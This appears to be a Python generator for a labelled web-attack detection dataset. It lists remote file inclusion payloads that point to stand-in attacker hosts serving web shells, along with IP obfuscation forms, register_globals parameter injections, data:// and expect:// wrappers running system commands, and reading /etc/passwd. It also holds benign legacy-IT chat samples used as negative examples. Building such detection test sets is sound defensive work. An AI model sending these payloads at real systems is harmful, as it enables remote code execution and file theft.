    "http://203.0.113.10/r57.txt",
    "http://192.0.2.44:8080/inc/cmd.txt",
    "https://198.51.100.7/x/evil.php.txt",
    "http://198.51.100.7:80/id.txt",
    # the same host written as decimal, hex, octal and short forms (host filters that look for dots)
    "http://3325256711/shell.txt",
    "http://0xC6336407/shell.txt",
    "http://0306.0063.0144.0007/shell.txt",
    "http://198.51.25607/shell.txt",
    "http://[::ffff:c633:6407]/shell.txt",
    "http://[2001:db8::7]/cmd.txt",
    # JSTL <c:import url="${param.page}"/> in Struts 1 / JSP portals: a remote JSP fragment
    "http://198.51.100.7/frag.jsp",
    "http://203.0.113.10:8080/tiles/layout.jsp",
    # ColdFusion: cfhttp fetches the template, cfinclude runs it
    "http://198.51.100.7/cf/shell.cfm",
    "http://203.0.113.10/cfexec.cfm",
    # classic ASP: Server.Execute after an XMLHTTP fetch into the web root
    "http://198.51.100.7/inc/cmd.asp",
    "http://192.0.2.44/aspx/shell.aspx.txt",
    # Perl CGI: `require`/`do` of a module fetched by LWP
    "http://198.51.100.7/lib/Evil.pm",
    "http://203.0.113.10/cgi/pwn.pl",
    # XSLT and XML includes on WebSphere / Oracle XML gateways
    "http://198.51.100.7/xsl/exec.xsl",
    "http://203.0.113.10/dtd/ext.dtd",
    # IBM i and mainframe web gateways including remote net.data macros
    "http://198.51.100.7/netdata/cmd.mac",
    "ftp://198.51.100.7/pub/inc.txt",
    "https://192.0.2.44:8443/payloads/inc.php",
    "http://198.51.100.7/inc.txt#",
    "http://198.51.100.7/~tester/inc.txt",
    "http://203.0.113.10/images/logo.gif.php",
    "http://192.0.2.44/theme/header.inc",
    "http://198.51.100.7:8000/common/lang.txt",
]

# url-with-trailing-question-mark: a trailing ? (or # / %00) turns the extension the code appends into a query
# string on the remote host, target PHP include("$page.php") and friends
RFI_QMARK: list[Entry] = [
    "http://attacker.example.net/shell.txt?",
    "http://attacker.example.net/c99.txt??",
    "https://attacker.example.net/r57.txt?x=",
    "http://198.51.100.7/inc.txt?",
    "http://203.0.113.10/cmd.txt?&",
    "http://pwn.example.org/id.txt?.php",
    "http://pwn.example.org/x.txt?ignore=",
    "http://files.example.org/tpl/header.txt?",
    "http://files.example.org/lang/english.txt?",
    "http://cdn-evil.example.com/mod.txt?",
    "https://cdn-evil.example.com/inc/config.txt?",
    "http://attacker.example.net/cmd.txt?cmd=id",
    "http://attacker.example.net/cmd.txt?c=uname%20-a&",
    "http://attacker.example.net/inc.txt%3f",
    "http://attacker.example.net/inc.txt%23",
    "http://attacker.example.net/inc.txt%00",
    "http://attacker.example.net/cf/t.cfm?",
    "http://attacker.example.net/j/frag.jsp?",
    "http://attacker.example.net/asp/inc.asp?",
    "http://attacker.example.net/pl/mod.pl?",
    "http://attacker.example.net/theme/skin.txt?",
    "http://attacker.example.net/mambots/bot.txt?",
    "http://attacker.example.net/admin/auth.txt?",
    "https://attacker.example.net:8443/x.txt?",
    "ftp://attacker.example.net/pub/shell.txt?",
    "http://attacker.example.net/?",
    "http://attacker.example.net/shell.gif?",
    "http://attacker.example.net/shell.txt?/",
    "http://attacker.example.net/shell.txt?a=b?",
    "http://attacker.example.net/s.txt?cmd=cat%20/etc/passwd?",
]

# include-parameter-with-url: the include variables of old products written as `name=value` (register_globals
# PHP CMSs, Perl CGI template parameters, JSP/Struts page parameters), sent unquoted as the form or raw body
RFI_PARAM: list[Entry] = [
    # Mambo / Joomla 1.0 components (register_globals)
    ("mosConfig_absolute_path=http://attacker.example.net/cmd.txt?",) + KV,
    ("mosConfig_live_site=http://198.51.100.7/inc.txt?",) + KV,
    # phpBB 2 and its mods
    ("phpbb_root_path=http://attacker.example.net/shell.txt?",) + KV,
    # osCommerce, Zen Cart, old galleries and wikis
    ("DIR_WS_INCLUDES=http://attacker.example.net/x.txt?",) + KV,
    ("_SERVER[DOCUMENT_ROOT]=http://attacker.example.net/x.txt?",) + KV,
    ("GLOBALS[rootdir]=http://198.51.100.7/c99.txt?",) + KV,
    ("include_path=http://attacker.example.net/inc/",) + KV,
    ("cfg[path]=http://203.0.113.10/r57.txt?",) + KV,
    ("config[root_dir]=http://attacker.example.net/cmd.txt?",) + KV,
    ("path_to_root=http://attacker.example.net/cmd.txt?",) + KV,
    ("language_dir=http://attacker.example.net/lang.txt?",) + KV,
    ("template=http://attacker.example.net/t.txt",) + KV,
    ("theme=http://198.51.100.7/skin.txt?",) + KV,
    ("skin=http://attacker.example.net/s.txt?",) + KV,
    ("module=http://attacker.example.net/m.txt?",) + KV,
    ("lang=http://attacker.example.net/en.txt?",) + KV,
    # the generic include parameters as query strings
    ("page=http://attacker.example.net/shell.txt",) + QKV,
    ("file=http://198.51.100.7/x.txt?",) + QKV,
    ("include=http://attacker.example.net/inc.txt",) + QKV,
    ("inc=http://203.0.113.10/c.txt?",) + QKV,
    ("path=http://attacker.example.net/p.txt?",) + QKV,
    ("content=http://attacker.example.net/c.txt",) + QKV,
    ("site=http://attacker.example.net/s.txt?",) + QKV,
    ("dir=http://attacker.example.net/d.txt?",) + QKV,
    # JSP/Struts 1 portals: <jsp:include>/<c:import> of the page parameter
    ("page=http://attacker.example.net/frag.jsp",) + KV,
    ("tile=http://attacker.example.net/layout.jsp",) + KV,
    # Perl CGI template engines reading a template URL with LWP and eval
    ("tmpl=http://attacker.example.net/t.pl",) + QKV,
    # ColdFusion cfhttp/cfinclude template parameter
    ("template=http://198.51.100.7/shell.cfm",) + QKV,
    # classic ASP includes resolved by an XMLHTTP loader
    ("include=http://attacker.example.net/inc.asp",) + KV,
    ("module=http://203.0.113.10/mod.asp?",) + QKV,
]

# off-domain-reference: include targets on a foreign host name (paste sites, scheme-relative, credentials before
# the @, a trusted-looking prefix)
RFI_OFFDOMAIN: list[Entry] = [
    "http://attacker.example.net/shell.txt",
    "https://attacker.example.net/r57.php",
    "//attacker.example.net/shell.txt",
    "\\\\attacker.example.net\\share\\shell.php",
    "http://intranet.corp@attacker.example.net/inc.txt",
    "http://user:pass@attacker.example.net/x.txt",
    "http://attacker.example.net/.well-known/x.txt",
    "https://pastebin.com/raw/Xy12ab34",
    "https://raw.githubusercontent.com/t3st3r/drop/main/c99.txt",
    "https://gist.githubusercontent.com/t3st3r/0a1b2c/raw/shell.txt",
    "http://attacker.example.net/frag.jsp",
    "http://attacker.example.net/inc/header.cfm",
    "http://attacker.example.net/inc/cmd.asp",
    "http://attacker.example.net/cgi/mod.pm",
    "http://attacker.example.net/xsl/rce.xsl",
    "http://attacker.example.net/wsdl/evil.wsdl",
    "http://attacker.example.net/xmlrpc/payload.xml",
    "https://attacker.example.net:8443/struts/tiles.jsp",
    "http://attacker.example.net./shell.txt",
    "http://ATTACKER.EXAMPLE.NET/SHELL.TXT",
    "hTtP://attacker.example.net/shell.txt",
    "http://attacker.example.net:80/shell.txt",
    "https://attacker.example.net/inc/config.inc",
    "http://www.attacker.example.net/c.txt",
    "http://attacker.example.net/mambo/cmd.txt",
    "http://attacker.example.net/phpbb/root.txt",
    "http://attacker.example.net/oscommerce/inc.txt",
    "http://attacker.example.net/images/avatar.gif",
    "http://evil.example.org/inc/lang.txt",
]

# remote-protocol: non-HTTP schemes and UNC paths the include machinery still follows (PHP wrappers, Windows SMB
# and WebDAV for IIS/ColdFusion/ASP hosts, Java's jar: and netdoc:, expect://)
RFI_PROTOCOL: list[Entry] = [
    "ftp://198.51.100.7/pub/shell.txt",
    "ftp://anonymous:a@attacker.example.net/pub/c99.php",
    "ftps://attacker.example.net/inc.php",
    "smb://198.51.100.7/share/shell.php",
    "\\\\198.51.100.7\\share\\shell.php",
    "\\\\198.51.100.7\\c$\\inetpub\\shell.asp",
    "\\\\attacker.example.net@SSL\\DavWWWRoot\\shell.asp",
    "\\\\attacker.example.net@8080\\webdav\\inc.cfm",
    "file://198.51.100.7/share/inc.php",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==",
    "data://text/plain,<?php system('id');?>",
    "data:text/plain,<?php passthru($_GET['c']);?>",
    "expect://id",
    "expect://ls%20-la",
    "expect://cat /etc/passwd",
    "jar:http://attacker.example.net/x.jar!/shell.jsp",
    "jar:http://198.51.100.7/evil.war!/WEB-INF/web.xml",
    "netdoc:///etc/passwd",
    "\\\\198.51.100.7\\netlogon\\inc.php",
    "file:////198.51.100.7/share/inc.asp",
    "data:;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "expect://whoami",
    "smb://attacker.example.net/public/c99.txt",
    "ftp://198.51.100.7:2121/inc.txt?",
    "ssh2.exec://root:toor@198.51.100.7:22/id",
    "ssh2.sftp://user:pw@attacker.example.net/x.php",
    "compress.zlib://http://attacker.example.net/shell.txt",
    "php://filter/resource=http://attacker.example.net/shell.txt",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATHS),
    ("rce", "reverse-shell", REVERSE),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader", DOWNLOADER),
    ("rce", "shell-file-write", FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_FILES),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
    ("lfi", "log-poisoning-target", LOG_TARGETS),
    ("lfi", "restricted-file-extension", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", RFI_IP),
    ("rfi", "url-with-trailing-question-mark", RFI_QMARK),
    ("rfi", "include-parameter-with-url", RFI_PARAM),
    ("rfi", "off-domain-reference", RFI_OFFDOMAIN),
    ("rfi", "remote-protocol", RFI_PROTOCOL),
]
# include variables written as `name=value`, sent unquoted
RAW_KV_SUBS = {"include-parameter-with-url"}

# the parameter names each category's legacy forms use
FIELD_NAMES: dict[str, list[str]] = {
    "rce": ["host", "ip", "cmd", "target", "domain", "report", "server", "q", "dbname"],
    "lfi": ["file", "page", "template", "path", "doc", "locale", "view", "include", "download"],
    "rfi": ["url", "page", "include", "template", "src", "module", "skin", "lang", "mosConfig_absolute_path"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    kv_safe = "=&[]._-:/'*$!(),;{}~@?"
    raw_places = ("form", "query", "param-name", "rs-param-name")
    unique = True
    path_forbids = "/\\?#%"
    xml_controls = "\n\t"
    raw_body_forbids = ""

    def name(self, category: str, sub: str, k: int) -> str:
        names = FIELD_NAMES[category]
        return names[k % len(names)]


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by enterprise IT staff (Slack about migrating off these platforms, bios
# of mainframe and ERP engineers, searches for colleagues, vendor documentation links, quoted error codes and
# messages, export and report file names)
CHAT = [
    "CHG0041873 approved: WebSphere 8.5.5 cell on aixprd07 goes read-only Saturday 22:00, cutover to Liberty Sunday",
    "anyone still have the admin login for the old JBoss 4.2 jmx-console on jbapp02? we need a thread dump before "
    "we decommission it",
    "reminder: the WebLogic 10.3.6 domain on wlsprd01 is out of support, migration plan is in INC0098812",
    "SAP basis team: SM37 shows job ZFI_DAILY_CLOSE cancelled twice, please check ST22 for the dump",
    "who owns the COBOL copybook CUSTREC.cpy? the new Kafka schema has to match its PIC X(40) name field",
    "Lotus Domino 9.0.1 mail is finally retired, names.nsf export archived to the compliance bucket",
    "ColdFusion 11 boxes cf11web01 and cf11web02 are being replaced with the Lucee containers next sprint",
    "the Perl CGI reports under /cgi-bin/reports/ still get traffic from finance, do not delete them yet",
    "DB2 LUW 10.5 to 11.5 upgrade: db2ckupgrade passed on all four databases, running db2iupgrade tonight",
    "Informix onstat -g ses shows 40 idle sessions from the old ERP, I'll ask them to close the pool",
    "Sybase ASE 15.7 license renewal declined, last data extract from the billing db lands Friday",
    "Oracle EBS 12.1.3 patching window moved, adop cycle now runs on the 14th",
    "classic ASP intranet (the one with default.asp and the global.asa) moves to the ASP.NET Core rewrite in Q3",
    "the WebForms ViewState errors on the claims portal are back, ticket INC0102231",
    "Struts 1.3 is still in the HR portal, security wants it gone before the audit",
    "Tomcat 7 on tcprd03 is end of life, the manager app has been disabled since last year anyway",
    "AS/400 team: the nightly CL job QSYSOPR message was just a full journal receiver, cleared it",
    "does anyone know which IFS folder the IBM i HTTP server uses for the customer-statement PDFs?",
    "mainframe batch JCL for PAYROLL01 abended with S0C7 again, bad packed decimal in the input file",
    "CICS region CICSPRD1 restart done, transactions back by 06:10",
    "SOAP endpoint for the old quote service now returns a deprecation header, clients have until March",
    "XML-RPC endpoint on the legacy blog is disabled, we saw too many pingback requests",
    "moving the SAP PI interfaces to Integration Suite, 42 of 180 iFlows done",
    "SE16 access for the auditors is approved, read-only on BKPF and BSEG only",
    "please don't run SU01 changes in production without a transport, use the change request",
    "the web.config transforms in the old WebForms solution overwrite the connection strings, careful with deploys",
    "for the record, win.ini still exists on the Server 2019 image, nothing reads it though",
    "the migration script copies /etc/passwd entries for service accounts only, not human users",
    "our Ansible role sets up /etc/hosts entries for the AIX LPARs, please review PR 884",
    "the .htaccess rewrite rules from the old Apache box are now nginx location blocks",
    "rotating the id_rsa deploy key for the mainframe FTP job, new public key goes in the vault",
    "is there a .env template for the new middleware project? the old one was a properties file",
    "we keep the .bak of the Domino notes.ini before every upgrade, stored on the NAS",
    "the quarterly SQL export (ebs_gl_2024q2.sql) is 14 GB, please use the fast transfer share",
    "ASP.NET machineKey must be the same on all four web farm nodes or the forms auth cookie fails",
    "Error 'HTTP 500.19 Internal Server Error' after IIS upgrade, config section locked at a parent level",
    "ORA-12154: TNS:could not resolve the connect identifier, tnsnames.ora on the new app server is missing "
    "the EBSPROD alias",
    "SQL0911N The current transaction has been rolled back because of a deadlock or timeout. Reason code 68 again",
    "ColdFusion error: Element DSN is undefined in APPLICATION, the Application.cfc did not load after restart",
    "WebLogic BEA-000386 server subsystem failed on managed server ms2, looking into it",
    "JBoss deployment failed: DeploymentException for ear file, duplicate jndi name",
    "Domino console says 'Router: No messages transferred', SMTP relay was firewalled",
    "IBM i message CPF9801 object not found in library QGPL, the restore job missed one file",
    "Sybase error 1105: can't allocate space for object syslogs, the log segment filled up",
    "Informix -271 could not insert new row into the table, the extent was full",
    "SAP transaction STMS: import queue for PRD has 12 transports waiting for approval",
    "the PowerShell script that rotates IIS logs is in the ops repo under scripts/iis",
    "I run Get-Service on the old app servers every morning, two Windows services still fail to start",
    "we use ping and traceroute from the jump host only, the app servers block ICMP",
    "a nightly cron job on the AIX box runs db2 backup and then copies the image to TSM",
    "curl to the SOAP health endpoint works from the bastion, wget fails on the old RHEL 5 image",
    "the ksh scripts from the Solaris days still use backticks, rewriting them as bash functions",
    "we finally removed the telnet service from the last AIX LPAR, ssh only now",
    "the bash upgrade after shellshock in 2014 is why that CGI box has a weird patched version",
    "netcat isn't installed on the hardened images, use the approved port check script",
    "the old Perl scripts use open() with a pipe for sendmail, rewriting them in Python",
    "cmd.exe batch files in the SAP transport folder still run nightly, do not rename them",
    "Lotus Notes users: please export your local address book before the 30th",
    "report name convention for the EBS extracts: GL_BALANCES_YYYYMM.csv, no spaces",
    "the COBOL program ACCTUPD reads the VSAM KSDS ACCT.MASTER.KSDS, not the flat file",
    "JCL step STEP030 uses IEBGENER to copy the daily file, nothing special",
    "Tomcat manager is bound to localhost only, use the deploy pipeline instead",
    "The DB2 z/OS DSNTEP2 job runs the reconciliation queries at 02:00",
    "SAP GUI 7.70 rollout starts Monday, ticket RITM0045531 for your laptop",
    "the SOAP WSDL for the pricing service lives in the contracts repo, version 3.2",
    "XML-RPC clients of the old ticket system still use system.listMethods to discover calls",
    "moved the file shares from \\\\fs01\\finance to the new SharePoint library, links updated",
    "template for the Oracle Forms decommission memo is in the team drive",
    "the include path for the old PHP intranet was /usr/share/php, it's all composer now",
    "the page parameter in the old CMS URLs (index.php?page=about) is redirected to the new slugs",
    "the file download servlet on the HR portal was replaced by signed S3 links",
    "Reminder: the mainframe IPL is this weekend, no batch between 20:00 and 04:00",
    "RACF password resets for TSO users go through the service desk, not this channel",
    "anyone going to the SAP TechEd session on clean core? I can share my notes",
    "Struts 2 upgrade to 2.5.33 is done on the supplier portal, OGNL issues were in the old version",
    "the last ASP.NET 2.0 app pool is gone, IIS on websrv09 only hosts the redirects now",
]

SEARCHES = [
    "websphere",
    "weblogic admin",
    "jboss",
    "coldfusion",
    "lotus domino",
    "sap basis",
    "abap developer",
    "cobol",
    "mainframe",
    "as/400",
    "ibm i",
    "db2 dba",
    "informix",
    "sybase",
    "oracle ebs",
    "pl/sql",
    "struts",
    "tomcat",
    "perl",
    "classic asp",
    "asp.net webforms",
    "powershell",
    "iis admin",
    "cics",
    "jcl",
    "racf",
    "z/os",
    "soap",
    "xml-rpc",
    "migration lead",
    "o'brien",
    "oracle forms",
    "sap fi/co",
    "netweaver",
    "ksh",
    "unix admin",
    "windows server",
    "middleware",
    "erp",
    "legacy",
]

URLS = [
    "https://www.ibm.com/docs/en/was/8.5.5",
    "https://www.ibm.com/docs/en/db2/11.5?topic=commands-db2ckupgrade",
    "https://www.ibm.com/docs/en/i/7.4?topic=programming-cl",
    "https://www.ibm.com/docs/en/informix-servers/14.10",
    "https://docs.oracle.com/cd/E26401_01/index.htm",
    "https://docs.oracle.com/middleware/1213/wls/index.html",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/errmg/ORA-12154.html",
    "https://help.sap.com/docs/SAP_NETWEAVER_750",
    "https://help.sap.com/docs/SAP_INTEGRATION_SUITE",
    "https://helpx.adobe.com/coldfusion/kb/coldfusion-lockdown-guide.html",
    "https://tomcat.apache.org/tomcat-9.0-doc/manager-howto.html",
    "https://struts.apache.org/migration/",
    "https://learn.microsoft.com/en-us/iis/configuration/",
    "https://learn.microsoft.com/en-us/aspnet/web-forms/",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-service",
    "https://perldoc.perl.org/functions/open",
    "https://access.redhat.com/articles/1200223",
    "https://www.ibm.com/docs/en/zos/2.5.0?topic=jcl-job-control-language",
    "https://infocenter.sybase.com/help/index.jsp",
    "https://app.example.com/admin/users?team=erp-migration&page=2",
]

PROSE = [
    "migration wave 3: WebSphere, JBoss and WebLogic apps to Kubernetes",
    "ERP engineer, 15 years SAP FI/CO and ABAP, now leading S/4HANA conversion",
    "mainframe systems programmer: z/OS, JES2, CICS, RACF, some REXX",
    "IBM i administrator, RPG and CL, keeps the AS/400 running since 1998",
    "DBA for DB2, Informix and Sybase, moving everything to PostgreSQL",
    "Oracle EBS 12.2 functional consultant, GL and AP",
    "ColdFusion developer turned Node.js developer",
    "Lotus Notes / Domino administrator (retired platform, now M365)",
    "classic ASP and VBScript maintenance, slowly rewriting in C#",
    "Perl CGI reports owner, finance reporting team",
    "PowerShell automation for Windows Server and IIS",
    "Struts 1 to Spring MVC migration, HR portal",
    "Tomcat and Apache httpd operations",
    "SOAP to REST gateway design, pricing and quote services",
    "ORA-00942 table or view does not exist after the schema move",
    "SQL1013N the database alias name or database name could not be found",
    "HTTP Error 500.19 on websrv09",
    "BEA-000386 on managed server ms2",
    "CPF9801 object not found",
    "S0C7 abend in PAYROLL01",
    "ST22 short dump TIME_OUT in ZFI_DAILY_CLOSE",
    "job ZHR_PAYROLL_EXPORT in SM37",
    "copybook CUSTREC.cpy field lengths",
    "tnsnames.ora EBSPROD alias",
    "web.config connection string transform",
    "notes.ini backup before upgrade",
    "please export the report as GL_BALANCES_202406.csv",
    "decommission checklist for jbapp02 and wlsprd01",
    "server names: aixprd07, cf11web01, tcprd03, websrv09",
    "SE16 read-only role for auditors",
]

PROFILES = [
    ("Priya Raman", "SAP Basis, Walldorf"),
    ("Tomasz Kowalczyk", "Mainframe Ops, Katowice"),
    ("Hélène Dubois", "Oracle EBS, Lyon"),
    ("Kenji Watanabe", "IBM i Team, Osaka"),
    ("Marcus O'Connell", "Middleware Services, Cork"),
    ("Ana Lucía Gómez", "ERP Migration Office, Bogotá"),
    ("Dieter Schmitt", "DB2 DBA Group, Stuttgart"),
    ("Fatima Al-Sayed", "Windows & IIS, Dubai"),
    ("Raj Patel", "ColdFusion Legacy Apps, Pune"),
    ("Sven Lindqvist", "Lotus Domino Archive, Uppsala"),
    ("Grace Okafor", "Integration (SOAP/REST), Lagos"),
    ("Bill Struts", "Java Platform Team, Denver"),
    ("Linda Tomcat", "Ops, Phoenix"),
    ("Olivia Perl", "Finance Reporting, Leeds"),
    ("Cobol Street Partners", "Wall St 60, New York"),
    ("Sybase Road Clinic", "Sybase Rd 2, Dublin CA"),
    ("Informix House", "Lenexa Plaza 4, Kansas"),
    ("Mainframe Bakery", "Mill Lane 3, York"),
    ("Domino's Pizza Store 4411", "High St 12, Reading"),
    ("Weblogic Consulting GmbH", "Königsallee 20, Düsseldorf"),
]

UPLOAD_NAMES = [
    "GL_BALANCES_202406.csv",
    "ebs_ap_invoices_2024q2.xlsx",
    "SM37_job_log_ZFI_DAILY_CLOSE.txt",
    "ST22_dump_2024-06-14.pdf",
    "CUSTREC.cpy",
    "PAYROLL01.jcl.txt",
    "websphere_cell_inventory.xlsx",
    "weblogic_domains_decommission.docx",
    "jboss_thread_dump_jbapp02.txt",
    "coldfusion_app_inventory.csv",
    "domino_mailbox_export_list.csv",
    "db2_upgrade_runbook_v3.docx",
    "informix_onstat_2024-06-11.txt",
    "sybase_billing_extract_final.zip",
    "as400_user_profiles_report.pdf",
    "iis_sites_websrv09.csv",
    "struts_to_spring_migration_plan.pptx",
    "tomcat_versions_by_host.xlsx",
    "perl_cgi_reports_usage.csv",
    "soap_clients_deprecation_list.xlsx",
    "ora_12154_troubleshooting.md",
    "sap_transports_pending_PRD.xlsx",
    "mainframe_ipl_schedule_june.pdf",
    "legacy_platforms_roadmap_2025.pdf",
    "migration wave 3 - sign-off.docx",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Apache-HttpClient/4.5.13 (Java/1.8.0_381)"),
    ("User-Agent", "Java/1.8.0_202"),
    ("User-Agent", "libwww-perl/6.77"),
    ("User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Excel 16.0.17328; Pro)"),
    ("User-Agent", "WindowsPowerShell/5.1.19041.4522"),
    ("User-Agent", "SAP NetWeaver Application Server (1.0;750)"),
    ("Referer", "https://help.sap.com/docs/SAP_NETWEAVER_750"),
    ("Referer", "https://www.ibm.com/docs/en/was/8.5.5"),
    ("Referer", "https://app.example.com/admin/users?q=websphere&page=1"),
    ("Referer", "https://learn.microsoft.com/en-us/iis/configuration/"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d0c2b9a-41e6-4f3e-9a2d-3b8e5f6c1a70"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; team=erp-migration; tz=Europe%2FBerlin"),
    ("Cookie", "session=abc123; last_search=websphere; page_size=50"),
    ("SOAPAction", "\"urn:QuoteService#getQuote\""),
    ("X-Forwarded-For", "10.20.30.40"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
